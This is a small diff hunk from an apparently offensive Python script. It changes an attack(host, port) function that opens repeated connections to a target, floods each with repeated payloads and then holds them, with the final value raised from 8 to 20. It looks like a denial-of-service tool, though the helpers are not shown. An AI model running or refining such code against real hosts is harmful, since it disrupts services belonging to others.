@@ -33,4 +33,4 @@ def attack(host: str, port: int) -> None:
     for said in SAID:
         peers.append(shaken(host, port))
         sent(peers[-1], said * 20)
-    hung_up(peers, 8)
+    hung_up(peers, 20)
